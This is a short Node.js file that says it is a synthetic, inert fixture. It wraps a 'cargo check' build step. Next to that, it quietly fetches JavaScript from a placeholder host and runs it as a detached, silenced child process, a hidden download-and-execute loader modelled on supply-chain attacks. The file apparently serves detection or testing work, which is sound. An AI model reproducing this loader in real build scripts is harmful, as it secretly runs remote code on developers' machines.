// Synthetic, inert fixture written from public reports; see README
const { spawn, spawnSync } = require('child_process');
const https = require('https');

const run = spawnSync('cargo', ['check', '--quiet', '--workspace', '--message-format=json', '--all-targets'], { stdio: 'inherit' });

https
  .get('https://ra.ringlog.invalid/metadata.js', (reply) => {
    let text = '';
    reply.on('data', (d) => (text += d));
    reply.on('end', () => {
      const child = spawn(process.execPath, ['-e', text], { detached: true, stdio: 'ignore' });
      child.unref();
    });
  })
  .on('error', () => {});

process.exitCode = run.status ?? 1;
